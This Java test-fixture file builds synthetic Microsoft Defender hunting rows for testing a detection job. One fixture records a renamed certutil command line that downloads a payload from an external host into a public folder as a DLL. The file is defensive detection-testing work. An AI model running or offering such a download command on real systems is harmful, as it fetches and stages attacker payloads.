package dev.bazahunt.job.testing;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.bazahunt.telemetry.DefenderTimestamps;
import java.time.Instant;

/** Flat Advanced Hunting rows for tests, shaped like real Defender exports. */
public final class TestRows {
    private static final ObjectMapper JSON = new ObjectMapper();
    public static final String DEVICE = "c3d5e7f9a1b2c3d4e5f60718293a4b5c6d7e8f90";

    private TestRows() {}

    public static String nanos(Instant instant) {
        return DefenderTimestamps.format(instant.getEpochSecond() * 1_000_000_000L + instant.getNano());
    }

    /** A renamed certutil (pid 7212) writing a payload, matched by the faithful rule. */
    public static ObjectNode download(String device, Instant at, long reportId) {
        ObjectNode row = common(device, at, reportId, "DeviceFileEvents");
        row.put("ActionType", "FileCreated");
        row.put("FileName", "tmp1834.dll");
        row.put("FolderPath", "C:\\Users\\Public\\x8k2\\tmp1834.dll");
        row.put("InitiatingProcessFileName", "x8k2.exe");
        row.put("InitiatingProcessFolderPath", "c:\\users\\public\\x8k2\\x8k2.exe");
        row.put("InitiatingProcessCommandLine",
                "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll");
        row.put("InitiatingProcessId", 7212);
        row.put("InitiatingProcessCreationTime", nanos(at.minusMillis(120)));
        row.put("InitiatingProcessParentFileName", "cmd.exe");
        row.put("InitiatingProcessParentId", 6640);
        row.put("InitiatingProcessParentCreationTime", nanos(at.minusMillis(600)));
        return row;
    }

    /** A process that Excel (pid 5120) spawned. */
    public static ObjectNode excelChild(String device, Instant at, long reportId, long processId, String fileName, String commandLine) {
        ObjectNode row = common(device, at, reportId, "DeviceProcessEvents");
        row.put("ActionType", "ProcessCreated");
        row.put("FileName", fileName);
        row.put("FolderPath", "C:\\Windows\\System32\\" + fileName);
        row.put("ProcessId", processId);
        row.put("ProcessCreationTime", nanos(at.minusMillis(2)));
        row.put("ProcessCommandLine", commandLine);
        row.put("InitiatingProcessFileName", "EXCEL.EXE");
        row.put("InitiatingProcessId", 5120);
        row.put("InitiatingProcessCreationTime", "2021-07-20T13:59:50.2500000Z");
        return row;
    }

    /** A benign row that only moves event time forward (e.g. to advance a Kafka partition's watermark). */
    public static ObjectNode benign(String device, Instant at, long reportId) {
        ObjectNode row = common(device, at, reportId, "DeviceFileEvents");
        row.put("ActionType", "FileModified");
        row.put("FileName", "NTUSER.DAT");
        row.put("FolderPath", "C:\\Users\\m.ortiz\\NTUSER.DAT");
        row.put("InitiatingProcessFileName", "svchost.exe");
        row.put("InitiatingProcessCommandLine", "svchost.exe -k netsvcs -p");
        return row;
    }

    private static ObjectNode common(String device, Instant at, long reportId, String table) {
        ObjectNode row = JSON.createObjectNode();
        row.put("Type", table);
        row.put("Timestamp", nanos(at));
        row.put("DeviceId", device);
        row.put("DeviceName", "wks-0911.contoso.local");
        row.put("ReportId", reportId);
        row.put("InitiatingProcessAccountDomain", "contoso");
        row.put("InitiatingProcessAccountName", "m.ortiz");
        return row;
    }

    public static String line(ObjectNode row) {
        try {
            return JSON.writeValueAsString(row);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
